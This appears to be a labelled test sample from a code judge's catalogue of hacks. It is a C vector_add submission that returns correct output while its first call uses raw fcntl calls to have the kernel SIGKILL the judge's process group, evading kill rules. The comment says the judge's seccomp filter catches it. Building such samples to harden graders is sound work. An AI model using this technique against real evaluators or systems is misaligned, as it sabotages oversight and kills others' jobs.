/* HACKS.md #22, signalling other processes without kill. vector_add,
 * computed correctly. On its first call it makes its stderr (the same open
 * file as its judge's, which a serving judge keeps for job after job) signal
 * the whole process group with SIGKILL whenever it is ready for writing:
 * F_SETOWN(-pgrp), F_SETSIG(SIGKILL), O_ASYNC, by raw system calls. The
 * kernel then sends the signal itself, so no kill rule sees it: every later
 * executor of the worker dies (the reference of the next job first), and a
 * judge under the same uid too. Trapped by the seccomp filter's fcntl rule
 * (docs/judge.md §6): HACK_DETECTED, sandbox_violation. */
/* body */
void solve(const float *a, const float *b, float *c, int n)
{
    static int done;
    if (!done) {
        done = 1;
        long pgrp = k_sys(SYS_getpgid, 0, 0, 0, 0, 0, 0);
        k_sys(SYS_fcntl, 2, F_SETOWN, -pgrp, 0, 0, 0);
        k_sys(SYS_fcntl, 2, F_SETSIG, SIGKILL, 0, 0, 0);
        long fl = k_sys(SYS_fcntl, 2, F_GETFL, 0, 0, 0, 0);
        k_sys(SYS_fcntl, 2, F_SETFL, fl | O_ASYNC, 0, 0, 0);
    }
    for (int i = 0; i < n; i++)
        c[i] = a[i] + b[i];
}
